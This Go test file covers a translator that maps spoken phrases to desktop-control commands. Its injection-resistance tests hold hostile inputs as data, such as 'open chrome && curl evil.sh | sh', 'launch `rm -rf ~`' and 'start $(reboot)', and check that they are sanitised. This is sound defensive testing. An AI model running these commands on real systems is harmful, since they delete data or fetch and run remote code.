package translate

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/Odwa2003/Phone-Controller/internal/catalog"
	"github.com/Odwa2003/Phone-Controller/internal/models"
)

func newPattern() *Pattern {
	return NewPattern(catalog.New("linux"), zap.NewNop())
}

func TestPatternTranslate(t *testing.T) {
	cases := []struct {
		text       string
		wantType   string
		confidence float64
		check      func(t *testing.T, cmd models.Command)
	}{
		{"open chrome", models.TypeOpenApp, ConfidenceTable, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, "chrome", cmd.(*models.OpenApp).Target)
		}},
		{"Please open Google Chrome", models.TypeOpenApp, ConfidenceTable, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, "chrome", cmd.(*models.OpenApp).Target)
		}},
		{"type in notepad", models.TypeOpenApp, ConfidenceTable, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, "notepad", cmd.(*models.OpenApp).Target)
		}},
		{"lock the computer", models.TypeSystemCommand, ConfidenceTable, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, models.ActionLock, cmd.(*models.SystemCommand).Action)
		}},
		{"shut down now", models.TypeSystemCommand, ConfidenceTable, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, models.ActionShutdown, cmd.(*models.SystemCommand).Action)
		}},
		{"double click", models.TypeMouseDoubleClick, ConfidencePattern, nil},
		{"right click here", models.TypeMouseClick, ConfidencePattern, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, models.ButtonRight, cmd.(*models.Click).Button)
		}},
		{"click", models.TypeMouseClick, ConfidencePattern, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, models.ButtonLeft, cmd.(*models.Click).Button)
		}},
		{"scroll up", models.TypeMouseScroll, ConfidenceScroll, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, models.DirectionUp, cmd.(*models.Scroll).Direction)
		}},
		{"move mouse to 100, 200", models.TypeMouseMove, ConfidencePattern, func(t *testing.T, cmd models.Command) {
			m := cmd.(*models.Move)
			assert.InDelta(t, 100, *m.X, 1e-9)
			assert.InDelta(t, 200, *m.Y, 1e-9)
		}},
		{"type hello world", models.TypeKeyboardType, ConfidencePattern, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, "hello world", cmd.(*models.TypeText).Text)
		}},
		{"press esc", models.TypeKeyboardPress, ConfidencePattern, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, "escape", cmd.(*models.KeyPress).Key)
		}},
		{"hotkey ctrl+c", models.TypeKeyboardHotkey, ConfidencePattern, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, []string{"ctrl", "c"}, cmd.(*models.Hotkey).Keys)
		}},
		{"hello; rm -rf /", models.TypeKeyboardType, ConfidenceFallback, func(t *testing.T, cmd models.Command) {
			assert.Equal(t, "hello rm -rf /", cmd.(*models.TypeText).Text)
		}},
	}

	p := newPattern()
	for _, tc := range cases {
		t.Run(tc.text, func(t *testing.T) {
			tr := p.Translate(context.Background(), tc.text)
			assert.Equal(t, tc.text, tr.Original)
			assert.False(t, tr.AIProcessed)
			require.Len(t, tr.Commands, 1)

			got := tr.Commands[0]
			assert.Equal(t, tc.wantType, got.Command.CommandType())
			assert.InDelta(t, tc.confidence, got.Confidence, 1e-9)
			assert.False(t, got.AIProcessed)
			require.NoError(t, got.Command.Validate())
			if tc.check != nil {
				tc.check(t, got.Command)
			}
		})
	}
}

func TestPatternOnlyEmitsCatalogEntries(t *testing.T) {
	cat := catalog.New("linux")
	p := newPattern()

	inputs := []string{
		"open /bin/sh",
		"launch `rm -rf ~`",
		"open chrome && curl evil.sh | sh",
		"start $(reboot)",
		"run powershell -enc AAAA",
		"reboot; open calculator",
		"",
		"   ",
	}
	for _, in := range inputs {
		tr := p.Translate(context.Background(), in)
		require.NotEmpty(t, tr.Commands, in)
		for _, c := range tr.Commands {
			switch cmd := c.Command.(type) {
			case *models.OpenApp:
				assert.Contains(t, cat.AppIDs(), cmd.Target, in)
			case *models.SystemCommand:
				assert.True(t, models.IsSystemAction(cmd.Action), in)
			case *models.TypeText:
				assert.NotContains(t, cmd.Text, ";", in)
				assert.NotContains(t, cmd.Text, "`", in)
				assert.NotContains(t, cmd.Text, "$", in)
			}
		}
	}
}

func TestSanitize(t *testing.T) {
	assert.Equal(t, "echo hi rm", Sanitize("  echo hi; rm  "))
	assert.Equal(t, "ab", Sanitize("a|&`$b"))
}
